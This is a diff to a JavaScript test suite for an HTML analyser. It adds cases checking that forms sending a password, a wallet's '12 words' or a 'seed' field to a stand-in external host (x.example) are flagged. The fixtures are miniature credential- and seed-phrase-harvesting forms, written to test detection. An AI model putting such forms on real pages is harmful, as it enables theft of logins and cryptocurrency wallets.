@@ -208,6 +208,19 @@ describe("where things go", () => {
     ]);
   });
 
+  test.each([
+    '<form action="https://x.example/l"><input type="password"></form>',
+    '<form action="https://x.example/l" method="get"><textarea placeholder="Your 12 words"></textarea></form>',
+    '<form action="https://x.example/l"><input name="seed"></form>',
+  ])("a password or a wallet's words go out without a method too: %s", (text) => {
+    expect(html(text).operations("send")).toMatchObject([{ destination: { text: "https://x.example/l" } }]);
+  });
+
+  test("a field of another form is no field of this one", () => {
+    const told = html('<form action="https://x.example/find"><input></form><form><input type="password"></form>');
+    expect(told.operations("send")).toEqual([]);
+  });
+
   test.each(['<form method="post" action="/login">', '<form action="https://x.example/search">'])(
     "near miss: %s",
     (text) => {
